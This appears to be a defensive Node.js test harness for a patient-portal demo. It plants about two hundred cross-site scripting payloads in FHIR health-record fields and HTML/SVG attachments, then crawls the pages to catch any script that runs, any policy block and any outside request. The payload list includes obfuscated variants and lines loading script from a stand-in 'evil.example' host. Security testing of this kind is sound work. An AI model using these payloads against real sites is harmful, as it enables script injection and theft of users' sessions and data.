// Puts about two hundred ways to run a script into whatever a person or a program can
// write, opens every page where it may show, and fails when one ran, when the policy had
// to stop one, or when anything was asked of another server.
//
//   node vectors.mjs --base http://127.0.0.1:18091            against a demonstration
//   node vectors.mjs --self-test                              shows that it can fail
import { launch, option, signIn, visitor } from './lib.mjs'

const run = 'zzxRan(1)'
const tags = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'input', 'details', 'object', 'embed', 'marquee', 'select', 'textarea', 'form', 'math', 'style', 'link', 'a', 'button', 'xss']
const events = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart', 'onpointerover', 'onbegin']
const ends = ['', '">', "'>", '-->', '</title>', '</textarea>', '</style>', ']]>']

// vectors are the texts: tags with events, ways out of where text stands, addresses that
// run, and encodings that some reader undoes.
export const vectors = [
  ...tags.flatMap((tag) => events.map((on) => `<${tag} src=x href=x autofocus open ${on}=${run}>`)),
  ...ends.flatMap((end) => [`${end}<script>${run}</script>`, `${end}<svg/onload=${run}>`, `${end}<img src=x onerror=${run}>`]),
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:', 'javascript&colon;', 'data:text/html,<script>', 'vbscript:', '\u00a0javascript:'].flatMap((s) => [`<a href="${s}${run}">open</a>`, `${s}${run}`]),
  `<iframe srcdoc="<script>parent.${run}</script>">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`, `<script src=//evil.example/x.js></script>`, `<style>@import '//evil.example/x.css'</style>`,
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<ſcript>${run}</ſcript>`, `<math><mi//xlink:href="data:x,<script>${run}</script>">`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<template><script>${run}</script></template>`, `<svg><animate onbegin=${run} attributeName=x>`, `" autofocus onfocus=${run} x="`, `' onmouseover='${run}`, '`-' + run + '-`',
]

const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`).toString('base64')
const html = Buffer.from(`<!doctype html><script>${run}</script><img src=x onerror=${run}>`).toString('base64')

// entries holds all vectors in the places of entries where words stand.
function entries(patient) {
  const all = []
  for (let i = 0; i < vectors.length; i += 4) {
    const [a, b, c, d] = [0, 1, 2, 3].map((n) => vectors[(i + n) % vectors.length])
    const subject = { reference: `Patient/${patient}`, display: a }
    all.push({ resourceType: 'Observation', status: 'final', subject, code: { text: a, coding: [{ system: 'urn:x', code: 'x', display: b }] }, valueString: c, note: [{ text: d }], performer: [{ display: b }], effectiveDateTime: '2026-11-20' })
    if (i % 16 === 0) {
      all.push({ resourceType: 'Condition', subject, code: { text: b }, note: [{ text: c }], recorder: { display: d } })
      all.push({ resourceType: 'Goal', lifecycleStatus: 'active', subject, description: { text: c }, note: [{ text: a }] })
      all.push({ resourceType: 'MedicationRequest', status: 'active', intent: 'order', subject, medicationCodeableConcept: { text: d }, dosageInstruction: [{ text: a, patientInstruction: b }] })
      all.push({ resourceType: 'DocumentReference', status: 'current', subject, description: a, date: '2026-11-20T10:00:00Z', content: [
        { attachment: { contentType: 'text/html', title: `${b}.html`, data: html } }, { attachment: { contentType: 'image/svg+xml', title: `x ${c}.svg`, data: svg } }] })
    }
  }
  return all
}

// watch tells of whatever runs, or would have run but for the policy, in a window.
async function watch(context, found) {
  await context.exposeBinding('zzxRan', ({ page }) => found.push(`a script ran at ${new URL(page.url()).pathname}`))
  await context.exposeBinding('zzxStopped', ({ page }, what) => found.push(`the policy stopped ${what} at ${new URL(page.url()).pathname}`))
  await context.addInitScript(() => {
    window.alert = window.confirm = window.prompt = () => window.zzxRan()
    document.addEventListener('securitypolicyviolation', (e) => window.zzxStopped(`${e.effectiveDirective} ${e.blockedURI}`))
  })
}

async function selfTest(browser) {
  const found = []
  const { context, page } = await visitor(browser, 'http://127.0.0.1')
  await watch(context, found)
  await page.route('**/*', (r) => r.fulfill({ contentType: 'text/html', body: vectors[0] }))
  await page.goto('http://127.0.0.1/planted')
  await page.waitForTimeout(300)
  if (!found.some((f) => f.startsWith('a script ran'))) throw new Error('a script that ran was not noticed')
  found.length = 0
  await page.unroute('**/*')
  await page.route('**/*', (r) => r.fulfill({ contentType: 'text/html', headers: { 'content-security-policy': "default-src 'none'" }, body: vectors[0] }))
  await page.goto('http://127.0.0.1/planted')
  await page.waitForTimeout(300)
  if (!found.some((f) => f.startsWith('the policy stopped'))) throw new Error('a script that the policy stopped was not noticed')
  console.log(`vectors: ${vectors.length} texts, and both planted faults were noticed`)
}

async function walk(browser, base, who, starts, found, most) {
  const { context, page, elsewhere } = await visitor(browser, base, { width: 1280 })
  await watch(context, found)
  await signIn(context, base, who)
  page.setDefaultTimeout(30_000)
  const todo = [...starts]
  const seen = new Set(todo)
  let files = 0
  for (let opened = 0; todo.length > 0 && opened < most; opened++) {
    const at = todo.shift()
    if (/\/file\/|\/download|\/journal|\.csv$/.test(at)) { // sent as a file, never shown
      const answer = await context.request.get(new URL(at, base).href)
      const h = answer.headers()
      if (/\/file\/|\.csv$/.test(at) && (!/^attachment/.test(h['content-disposition'] ?? '') || h['x-content-type-options'] !== 'nosniff' || /html|svg/.test(h['content-type'] ?? ''))) {
        found.push(`a file is shown in the browser: ${h['content-type']} ${h['content-disposition']}`)
      }
      files++
      continue
    }
    await page.goto(new URL(at, base).href, { waitUntil: 'domcontentloaded' })
    const links = await page.$$eval('main a[href]', (all) => all.map((a) => a.getAttribute('href')))
    for (const to of links) {
      if (/^(javascript|data|vbscript):/i.test(to.trim())) found.push(`an address that runs is a link at ${at}`)
      if (to.startsWith('/') && !seen.has(to) && !/sign-out|assets|lang=|\/end$|\/less$/.test(to)) {
        seen.add(to)
        if (/\/file\/|Observation|Condition|DocumentReference|Goal|Medication|record|^\/me\/?$|access|people/.test(to)) todo.push(to)
      }
    }
  }
  await page.waitForTimeout(200)
  for (const url of elsewhere) found.push(`asked of another server: ${url}`)
  await context.close()
  return [seen.size, files]
}

const browser = await launch()
try {
  if (process.argv.includes('--self-test')) {
    await selfTest(browser)
  } else {
    const base = option('base', 'http://127.0.0.1:18091')
    const api = (path, init = {}) => fetch(new URL(path, base), { ...init, headers: { Authorization: 'Bearer demo-marcus', 'Content-Type': 'application/fhir+json', ...init.headers } })
    const me = await (await api('/fhir/Patient')).json()
    const patient = me.entry[0].resource.id
    let kept = 0
    const all = entries(patient)
    for (const e of all) {
      const answer = await api(`/fhir/${e.resourceType}`, { method: 'POST', body: JSON.stringify(e), headers: { Prefer: 'return=minimal' } })
      if (answer.status === 201) kept++
      else if (answer.status >= 500) throw new Error(`writing a ${e.resourceType} answered ${answer.status}`)
      else console.log(`not kept: ${e.resourceType} ${answer.status} ${(await answer.text()).slice(0, 200)}`)
    }
    if (kept < all.length * 0.8) throw new Error(`only ${kept} of ${all.length} entries were taken: this tests nothing`)
    const found = []
    const [pages, files] = await walk(browser, base, 'marcus', ['/me', '/me/record', '/me/record/results', '/me/record/letters', '/me/access', '/me/sharing'], found, 110)
    for (const text of [vectors[0], vectors[150], `"><script>${run}</script>`]) { // and what an address says
      const q = encodeURIComponent(text)
      await walk(browser, base, 'priya', [`/people?sort=${q}&q=${q}&page=${q}`, `/people/${q}`, `/people/find?given=${q}`], found, 3)
    }
    console.log(`vectors: ${vectors.length} texts in ${kept} entries, ${pages} addresses and ${files} files met, ${found.length} faults`)
    for (const f of [...new Set(found)].slice(0, 20)) console.log(`FAIL ${f}`)
    if (found.length > 0) process.exitCode = 1
  }
} finally {
  await browser.close()
}
